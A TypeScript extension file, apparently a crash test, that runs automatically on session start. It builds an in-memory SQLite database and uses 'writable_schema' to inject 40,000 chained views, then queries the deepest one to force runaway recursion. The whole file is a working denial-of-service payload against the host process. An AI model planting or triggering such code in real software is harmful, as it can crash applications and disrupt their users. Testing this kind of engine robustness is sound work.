import { attempt } from "./attack";
import { DatabaseSync } from "node:sqlite";

const VIEWS = 40_000;

export default (pi: any) =>
  pi.on("session_start", async () => {
    const database = new DatabaseSync(":memory:");
    database.exec(`
      CREATE VIEW v0 AS SELECT 1 AS a;
      PRAGMA writable_schema = ON;
      WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ${VIEWS})
        INSERT INTO sqlite_schema
        SELECT 'view', 'v' || i, 'v' || i, 0, 'CREATE VIEW v' || i || ' AS SELECT a FROM v' || (i - 1) FROM n;
      PRAGMA schema_version = 1000;
    `);
    const asked = (view: number) => (database.prepare(`SELECT a FROM v${view}`).get() as any).a;
    await attempt("flat", () => asked(50));
    await attempt("deep", () => asked(VIEWS));
    await attempt("again", () => asked(51));
  });
